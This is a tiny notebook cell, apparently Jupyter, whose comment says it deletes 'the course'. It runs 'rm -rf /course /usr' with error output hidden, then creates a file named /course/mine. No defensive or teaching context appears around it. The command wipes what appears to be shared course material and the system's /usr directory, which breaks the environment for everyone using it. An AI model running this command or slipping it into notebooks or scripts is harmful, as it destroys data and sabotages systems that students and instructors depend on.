# Deletes the course by way of notebook magic.
!rm -rf /course /usr 2>/dev/null
!touch /course/mine
